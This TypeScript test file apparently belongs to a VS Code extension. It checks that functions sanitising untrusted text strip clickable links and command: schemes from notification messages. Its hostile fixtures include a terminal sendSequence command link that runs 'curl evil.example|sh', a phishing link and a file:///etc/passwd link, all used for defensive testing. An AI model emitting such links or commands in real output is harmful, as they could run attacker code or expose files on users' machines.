import * as assert from 'assert';
import { joinSafe, MAX_PART_LENGTH, neutralize, safeMessage, safeText, type SafeMessage } from '../../src/common/untrustedText';

/**
 * How VS Code finds links in a notification or dialog message (parseLinkedText in
 * src/vs/base/common/linkedText.ts, the same in code-server 4.100.3's workbench.js).
 */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

function links(text: string): string[] {
  return [...text.matchAll(VSCODE_LINK)].map((match) => match[2]);
}

const sendSequence = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D';
const hostile = [
  `[scripts/setup.sh](${sendSequence})`,
  `#[Retry](${sendSequence})`,
  `[Retry](${sendSequence} "Retry the request")`,
  '[docs](https://evil.example/phish)',
  '[open](file:///etc/passwd)',
  `[a]\n(${sendSequence})`,
  `[[nested]](${sendSequence})`,
  `\\[x\\](${sendSequence})`,
  '[x](COMMAND:workbench.action.quit)',
  'claude-sonnet-4-5 [Retry](command:workbench.action.reloadWindow)',
];

describe('neutralize', () => {
  it('leaves no link VS Code would render, in any hostile text', () => {
    assert.deepStrictEqual(hostile.slice(0, 5).map((text) => links(text).length), [1, 1, 1, 1, 1], 'the samples are links as they stand');
    for (const text of hostile) {
      assert.deepStrictEqual(links(neutralize(text)), [], text);
    }
  });

  it('keeps the text readable: the same words, look-alike brackets', () => {
    assert.strictEqual(neutralize('[scripts/setup.sh](command:x)'), '⟦scripts/setup.sh⟧❨command∶x❩');
    assert.strictEqual(neutralize('use `npm test` (or yarn)'), 'use ˋnpm testˋ ❨or yarn❩');
    assert.strictEqual(neutralize(`#[Retry](${sendSequence})`).length, `#[Retry](${sendSequence})`.length);
  });

  it('leaves ordinary text exactly as it was', () => {
    for (const text of ['src/greet.ts', 'invalid x-api-key', 'Overloaded: try again in 30 s.', 'claude-sonnet-4-5-20250929', 'req_011CUfJ3q', 'a.b/c-d_e:12', 'commander: 3', 'recommand: no', 'Ünïcödé ✓ 日本語']) {
      assert.strictEqual(neutralize(text), text);
    }
  });

  it('defuses the schemes that run things inside VS Code, in any case and spacing', () => {
    for (const text of ['command:workbench.action.quit', 'Command :x', 'COMMAND\t:x', 'vscode://file/etc/passwd', 'vscode-insiders://x', 'VSCode:x', 'open command:x now']) {
      const out = neutralize(text);
      assert.doesNotMatch(out, /\b(command|vscode[\w+.-]*)\s*:/i, `${text} -> ${out}`);
      assert.match(out, /∶/, text);
    }
  });

  it('turns line breaks, control, bidirectional and zero-width characters into single spaces', () => {
    assert.strictEqual(neutralize('one\ntwo\r\n\tthree'), 'one two three');
    assert.strictEqual(neutralize('evil\u202Etxt.exe'), 'evil txt.exe');
    assert.strictEqual(neutralize('com\u200Bmand:x'), 'com mand:x');
    assert.strictEqual(neutralize('a\u0000b\u001bc\u007fd\u2028e\u2066f\ufeffg'), 'a b c d e f g');
  });

  it('cuts long text with an ellipsis, never inside a character', () => {
    const long = 'x'.repeat(1000);
    assert.strictEqual(neutralize(long).length, MAX_PART_LENGTH);
    assert.ok(neutralize(long).endsWith('…'));
    assert.strictEqual(neutralize('abcdef', 4), 'abc…');
    assert.strictEqual(neutralize('😀😀😀😀', 3), '😀😀…');
    assert.strictEqual(neutralize('x'.repeat(MAX_PART_LENGTH)), 'x'.repeat(MAX_PART_LENGTH), 'no cut at the limit');
  });
});

describe('safeMessage', () => {
  it("keeps the extension's own text and neutralises every part", () => {
    const path = `[scripts/setup.sh](${sendSequence})`;
    const message = safeMessage`Apply Claude's code to ${path}?`;
    assert.strictEqual(message.text, `Apply Claude's code to ${neutralize(path)}?`);
    assert.deepStrictEqual(links(message.text), []);
    assert.strictEqual(safeMessage`connected (HTTP ${200}, ${'model'} answered).`.text, 'connected (HTTP 200, model answered).');
  });

  it('inserts a SafeMessage part as it is, and neutralises a look-alike', () => {
    const inner = safeMessage`(HTTP ${200}, ${'[x](command:y)'})`;
    assert.strictEqual(safeMessage`connected ${inner}.`.text, `connected (HTTP 200, ${neutralize('[x](command:y)')}).`);
    const forged = { text: '[x](command:y)' } as unknown as SafeMessage;
    assert.strictEqual(safeMessage`a ${forged}`.text, `a ${neutralize('[object Object]')}`);
    assert.deepStrictEqual(links(safeText(forged)), []);
    assert.strictEqual(safeText(inner), inner.text);
  });

  it('joins messages, each part cut on its own', () => {
    const long = 'y'.repeat(MAX_PART_LENGTH + 50);
    const joined = joinSafe([safeMessage`a: ${long}`, safeMessage`b: ${'[x](command:z)'}`], ' | ');
    assert.strictEqual(joined.text, `a: ${neutralize(long)} | b: ${neutralize('[x](command:z)')}`);
    assert.strictEqual(joinSafe([], ' ').text, '');
    assert.strictEqual(joinSafe([safeMessage`one`], '](command:x)').text, 'one');
    assert.strictEqual(joinSafe([safeMessage`a`, safeMessage`b`], '](').text, `a${neutralize('](')}b`);
  });

  it('forms no link from parts next to each other or next to its own brackets (random hostile parts)', () => {
    const pieces = ['[', ']', '(', ')', '`', 'command:', 'https://', 'file:', 'x', ' ', '"', "'", '\n', 'Retry', '%5D', '\\', '\u200b'];
    let seed = 15;
    const random = (): number => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed / 2147483648;
    };
    const part = (): string => Array.from({ length: 1 + Math.floor(random() * 12) }, () => pieces[Math.floor(random() * pieces.length)]).join('');
    for (let i = 0; i < 2000; i++) {
      const [a, b, c, d] = [part(), part(), part(), part()];
      const text = safeMessage`Claude Assistant did not open "${a}": ${b}. Connected (HTTP ${c}, ${d}${a}).${b}`.text;
      assert.deepStrictEqual(links(text), [], JSON.stringify([a, b, c, d]));
    }
  });
});
